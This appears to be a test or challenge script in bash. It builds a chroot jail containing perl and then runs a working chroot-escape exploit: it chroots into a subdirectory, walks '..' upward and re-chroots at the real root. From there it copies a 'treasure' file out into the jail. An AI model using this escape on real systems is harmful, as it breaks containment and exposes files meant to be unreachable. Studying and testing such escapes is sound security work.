#!/usr/bin/env bash
# The classic way: chroot(2) to a directory below leaves the working directory where it was, now above the root; from
# there ".." goes up to the very top. busybox cannot do this, its chroot changes the directory too; so bring a perl.
set -euo pipefail

for file in /usr/bin/perl $(ldd /usr/bin/perl | grep -o '/[^ ]*'); do
  sudo mkdir -p "jail$(dirname "$file")"
  [ -e "jail$file" ] || sudo cp --dereference "$file" "jail$file"
done

sudo tee jail/escape.pl >/dev/null <<'PERL'
mkdir "cell";
chroot "cell" or die;
chdir ".." for 1 .. 64;
chroot "." or die;
exec "/bin/sh", "-c", 'cat "$0/treasure" >"$0/jail/answer" && exec sleep 1d', $ARGV[0];
PERL

# shellcheck disable=SC2016 # the inner shell expands it
setsid sudo chroot jail /bin/sh -c '/usr/bin/perl /escape.pl "$1"; :' sh "$PWD" </dev/null >/dev/null 2>&1 &

wait_until pgrep --full --exact 'sleep 1d'
wait_until test -s jail/answer
